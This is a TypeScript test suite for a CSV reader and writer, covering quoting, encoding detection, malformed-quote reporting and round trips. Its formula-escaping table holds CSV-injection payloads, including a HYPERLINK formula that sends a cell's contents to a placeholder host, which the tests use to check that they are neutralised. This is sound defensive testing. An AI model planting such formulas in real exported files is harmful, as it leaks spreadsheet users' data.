import fc from 'fast-check';
import { mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { isDeepStrictEqual } from 'node:util';
import { afterAll, describe, expect, it } from 'vitest';
import { FileInputError, openCsv, type CsvReadOptions } from '../../src/files/csv-reader.js';
import { CsvWriter, fileSink, formatCsvCell, formatCsvRow, functionSink, neutralizeFormula } from '../../src/files/csv-writer.js';

const dir = mkdtempSync(join(tmpdir(), 'matchbook-csv-'));
afterAll(() => rmSync(dir, { recursive: true, force: true }));
let seq = 0;
function file(content: string | Buffer): string {
  const path = join(dir, `f${seq++}.csv`);
  writeFileSync(path, content);
  return path;
}

async function readAll(path: string, options: CsvReadOptions = {}) {
  const csv = await openCsv(path, options);
  const rows: string[][] = [];
  for await (const batch of csv.batches()) rows.push(...batch.rows);
  return { layout: csv.layout, issues: csv.issues, rows, rowsRead: csv.rowsRead };
}

async function errorOf(p: Promise<unknown>): Promise<string> {
  try {
    await p;
  } catch (err) {
    expect(err).toBeInstanceOf(FileInputError);
    return (err as Error).message;
  }
  throw new Error('expected an error');
}

describe('formatCsvCell / formatCsvRow', () => {
  it.each([
    ['plain', 'plain'],
    ['', ''],
    ['a,b', '"a,b"'],
    ['say "hi"', '"say ""hi"""'],
    ['two\nlines', '"two\nlines"'],
    ['cr\r', '"cr\r"'],
    [' padded ', ' padded '],
    // CSV injection (OWASP): formula starts get a leading ', plain numbers do not.
    ['=HYPERLINK("http://x.example/?"&A1,"click")', '"\'=HYPERLINK(""http://x.example/?""&A1,""click"")"'],
    ['=1+1', "'=1+1"],
    ['+1+1', "'+1+1"],
    ['-2+3', "'-2+3"],
    ['@SUM(1,1)', '"\'@SUM(1,1)"'],
    ['\tcmd', "'\tcmd"],
    ['\r=1', '"\'\r=1"'],
    ['-', "'-"],
    ['+1 555 123 4567', "'+1 555 123 4567"],
    ['-12.5', '-12.5'],
    ['+15551234567', '+15551234567'],
    ['a=1', 'a=1'],
  ])('%j -> %j', (value, expected) => expect(formatCsvCell(value)).toBe(expected));

  it('every cell a spreadsheet would run as a formula is written as text', () => {
    fc.assert(
      fc.property(fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '1', 'A', '(', ')', '.', ' ', ',') }), (cell) => {
        const out = neutralizeFormula(cell);
        return !/^[=+\-@\t\r]/.test(out) || /^[+-]?(?:\d+(?:\.\d*)?|\.\d+)$/.test(out);
      }),
    );
  });

  it('quotes the delimiter in use; a lone empty field is written as ""', () => {
    expect(formatCsvRow(['a;b', 'c,d'], ';')).toBe('"a;b";c,d');
    expect(formatCsvRow([''])).toBe('""');
    expect(formatCsvRow(['', ''])).toBe(',');
  });
});

describe('openCsv', () => {
  it('reads header and rows, trims header names, names empty headers', async () => {
    const r = await readAll(file(' id , name ,\n1,Ann,x\n2,"Bob, Jr",y\n'));
    expect(r.layout.header).toEqual(['id', 'name', 'column 3']);
    expect(r.rows).toEqual([
      ['1', 'Ann', 'x'],
      ['2', 'Bob, Jr', 'y'],
    ]);
    expect(r.rowsRead).toBe(2);
  });

  it('detects ; and tab delimiters and CRLF line ends', async () => {
    const semi = await readAll(file('a;b;c\r\n1;2;3\r\n4;"5;5";6\r\n'));
    expect(semi.layout.delimiter).toBe(';');
    expect(semi.layout.newline).toBe('\r\n');
    expect(semi.rows).toEqual([
      ['1', '2', '3'],
      ['4', '5;5', '6'],
    ]);
    const tab = await readAll(file('a\tb\n1\t2,5\n'));
    expect(tab.layout.delimiter).toBe('\t');
    expect(tab.rows).toEqual([['1', '2,5']]);
  });

  it('counts blank lines, short and long rows with their line numbers', async () => {
    const r = await readAll(file('\na,b,c\n1,2,3\n\n4,5\n6,7,8,9\n"multi\nline",x,y\n10\n'));
    expect(r.layout.headerLine).toBe(2);
    expect(r.rows).toEqual([['1', '2', '3'], ['4', '5'], ['6', '7', '8', '9'], ['multi\nline', 'x', 'y'], ['10']]);
    expect(r.issues.blankLines).toEqual({ count: 2, lines: [1, 4] });
    expect(r.issues.shortRows).toEqual({ count: 2, lines: [5, 9] });
    expect(r.issues.longRows).toEqual({ count: 1, lines: [6] });
  });

  it('reads Latin-1 when the bytes are not UTF-8, and says so', async () => {
    const r = await readAll(file(Buffer.from('name,city\nJos\xe9,M\xfcnchen\n', 'latin1')));
    expect(r.layout.encoding).toBe('latin1');
    expect(r.layout.encodingReason).toMatch(/not valid UTF-8/);
    expect(r.rows).toEqual([['José', 'München']]);
  });

  it('counts rows with bytes invalid in the given encoding', async () => {
    const r = await readAll(file(Buffer.from('name,city\nJos\xe9,x\nAnn,y\n', 'latin1')), { encoding: 'utf8' });
    expect(r.rows[0]?.[0]).toBe('Jos\uFFFD');
    expect(r.issues.badBytes).toEqual({ count: 1, lines: [2] });
  });

  it('reads UTF-16 with a byte-order mark and strips a UTF-8 byte-order mark', async () => {
    const text = 'name,city\nZoë,Köln\n';
    const le = await readAll(file(Buffer.concat([Buffer.from([0xff, 0xfe]), Buffer.from(text, 'utf16le')])));
    expect(le.layout.encoding).toBe('utf16le');
    expect(le.rows).toEqual([['Zoë', 'Köln']]);
    const bom = await readAll(file(`\uFEFF${text}`));
    expect(bom.layout.header).toEqual(['name', 'city']);
  });

  it('reports malformed quotes and the lines they swallow', async () => {
    const r = await readAll(file('a,b\n"x"y,1\n2,3\n4,5\n'));
    // papaparse reads on to the next closing quote: the lines after it become part of the field.
    expect(r.rows).toEqual([['x"y,1\n2,3\n4,5\n']]);
    expect(r.issues.badQuotes).toEqual({ count: 1, lines: [2] });
    expect(r.issues.swallowedLines).toEqual({ count: 2, lines: [2] });
    const unclosed = await readAll(file('a,b\n1,2\n3,"never closed\n5,6\n'));
    expect(unclosed.rows).toEqual([
      ['1', '2'],
      ['3', 'never closed\n5,6\n'],
    ]);
    expect(unclosed.issues.badQuotes).toEqual({ count: 1, lines: [3] });
    expect(unclosed.issues.swallowedLines.count).toBe(1);
  });

  it('stops with a clear error when a quote swallows the file', async () => {
    const body = 'a,b\n1,"open\n' + 'x,y\n'.repeat(2000);
    const message = await errorOf(readAll(file(body), { maxRowChars: 1024, chunkBytes: 256 }));
    expect(message).toMatch(/line 2: .*quoted field is probably not closed/);
  });

  it('gives clear errors for missing, directory and empty inputs', async () => {
    expect(await errorOf(openCsv(join(dir, 'nope.csv')))).toMatch(/nope\.csv: no such file/);
    const sub = join(dir, 'sub');
    mkdirSync(sub);
    expect(await errorOf(openCsv(sub))).toMatch(/is a directory/);
    expect(await errorOf(openCsv(file('')))).toMatch(/empty/);
    expect(await errorOf(openCsv(file('\n\n')))).toMatch(/empty/);
  });

  it('a header without rows gives no rows', async () => {
    const r = await readAll(file('a,b'));
    expect(r.layout.header).toEqual(['a', 'b']);
    expect(r.rows).toEqual([]);
  });
});

describe('CSV round trip (property)', () => {
  const cellText = fc.oneof(
    fc.string({ unit: 'grapheme', maxLength: 8 }),
    fc.constantFrom('', ' ', '"', '""', ',', ';', '\n', '\r\n', '\r', 'a"b', ' x ', 'é', '\t'),
  );
  const table = fc.integer({ min: 1, max: 4 }).chain((width) =>
    fc
      .array(fc.array(cellText, { minLength: width, maxLength: width }), { maxLength: 12 })
      // A one-column row whose only value is blank reads as a blank line (counted, not a row).
      .map((rows) => rows.filter((r) => width > 1 || (r[0] ?? '').trim().length > 0))
      .map((rows) => ({ width, rows })),
  );

  it('rows written by formatCsvRow read back equal, whatever the chunk size', async () => {
    await fc.assert(
      fc.asyncProperty(table, fc.constantFrom(16, 37, 1 << 20), fc.constantFrom(',', ';'), async ({ width, rows }, chunkBytes, delimiter) => {
        const header = Array.from({ length: width }, (_, i) => `h${i}`);
        const text = [header, ...rows].map((r) => formatCsvRow(r, delimiter)).join('\n') + '\n';
        const r = await readAll(file(text), { chunkBytes, delimiter });
        return (
          isDeepStrictEqual(r.layout.header, header) &&
          isDeepStrictEqual(
            r.rows,
            rows.map((row) => row.map(neutralizeFormula)),
          ) &&
          r.issues.shortRows.count === 0 &&
          r.issues.longRows.count === 0 &&
          r.issues.badQuotes.count === 0
        );
      }),
      { numRuns: 300 },
    );
  });

  it('CsvWriter writes to a file and to a function sink alike', async () => {
    const path = join(dir, 'out.csv');
    const rows = [
      ['id', 'name'],
      ['1', 'Ann "A"'],
      ['2', 'x,y'],
    ];
    const w = new CsvWriter(await fileSink(path));
    for (const r of rows) await w.writeRow(r);
    await w.close();
    let text = '';
    const w2 = new CsvWriter(functionSink((t) => (text += t)));
    for (const r of rows) await w2.writeRow(r);
    await w2.close();
    expect(readFileSync(path, 'utf8')).toBe(text);
    expect((await readAll(path)).rows).toEqual(rows.slice(1));
  });

  it('fileSink: a clear error for an unwritable path', async () => {
    expect(await errorOf(fileSink(join(dir, 'no', 'such', 'dir.csv')))).toMatch(/cannot write \(no such directory\)/);
  });
});
